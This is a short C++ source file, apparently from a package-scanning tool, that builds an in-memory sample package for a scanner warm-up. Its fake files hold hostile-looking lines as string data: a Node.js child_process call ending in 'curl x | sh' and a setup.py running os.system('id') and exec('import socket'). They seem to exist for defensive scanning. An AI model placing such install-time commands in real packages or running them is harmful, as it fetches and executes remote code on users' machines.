#include "scan/warm_up.h"

namespace cerebro {

FileTree warm_up_package() {
  FileTree tree;
  tree.files.push_back({"package/index.js",
                        "const c = require('child_process'); c.exec(process.env.A + 'curl x | sh')",
                        false, false});
  tree.files.push_back(
      {"package/setup.py", "import os\nos.system('id')\nexec('import socket')\n", false, false});
  return tree;
}

}  // namespace cerebro
